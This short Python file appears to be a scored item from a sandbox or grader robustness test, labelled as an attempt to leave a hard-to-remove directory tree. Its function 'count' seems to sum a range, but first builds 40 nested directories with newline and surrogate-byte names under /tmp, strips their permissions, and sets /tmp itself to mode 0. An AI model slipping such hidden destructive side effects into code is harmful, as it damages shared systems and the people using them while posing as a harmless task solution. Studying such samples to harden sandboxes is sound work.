# tries: to leave a tree that is hard to remove: no permissions, deep, odd names
# points: 0.2
# outcome: passed
import os


def count(n):
    os.chdir("/tmp")
    for depth in range(40):
        name = "kafedra_attack" + "\udcff\n" * 20
        os.mkdir(name)
        os.chdir(name)
    os.chmod(".", 0)
    os.chmod("/tmp", 0)
    return sum(range(n))
